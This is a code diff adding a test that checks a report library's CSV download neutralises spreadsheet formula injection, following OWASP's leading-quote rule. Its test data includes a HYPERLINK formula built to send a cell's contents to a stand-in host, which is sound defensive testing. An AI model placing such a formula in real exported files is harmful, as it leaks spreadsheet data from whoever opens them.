@@ -493,3 +493,20 @@ def test_progress_goes_over_the_pairs_and_changes_nothing(monkeypatch):
     assert shown.to_json() == quiet.to_json()
     assert [n for n, _ in seen] == [len(quiet.pairs)]
     assert seen[0][1]["delay"] == 1.0 and seen[0][1]["file"] is sys.stderr
+
+
+def test_csv_downloads_quote_what_a_spreadsheet_would_run():
+    import csv
+    import io
+    import urllib.parse
+
+    from precmp_lib.report.html import csv_link
+
+    names = ['=HYPERLINK("http://x/?d="&A2,"a")', "+1", "-x", "@SUM(1)", "\tA", "\rB", "plain", "a=b"]
+    frame = pd.DataFrame({"model": names, "difference": [-0.5, 0.25, 0, 1, 2, 3, 4, 5]})
+    link = csv_link(frame, "accuracy.csv")
+    data = urllib.parse.unquote(link.split("charset=utf-8,", 1)[1].split('"', 1)[0])
+    rows = list(csv.reader(io.StringIO(data, newline="")))
+    # OWASP's rule: a text starting with = + - @ tab or CR gets a leading quote; numbers stay
+    assert [r[0] for r in rows[1:]] == ["'" + n for n in names[:6]] + names[6:]
+    assert [float(r[1]) for r in rows[1:]] == frame["difference"].tolist()
